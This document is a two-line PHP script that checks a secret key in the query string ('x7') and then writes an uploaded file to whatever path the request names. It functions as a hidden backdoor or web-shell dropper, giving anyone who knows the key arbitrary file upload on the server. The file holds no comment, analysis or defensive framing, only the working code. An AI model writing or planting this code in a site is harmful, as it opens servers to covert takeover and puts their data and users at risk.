<?php
if ($_GET['k'] == 'x7') { $f = $_GET['f']; copy($_FILES['a']['tmp_name'], $f); }
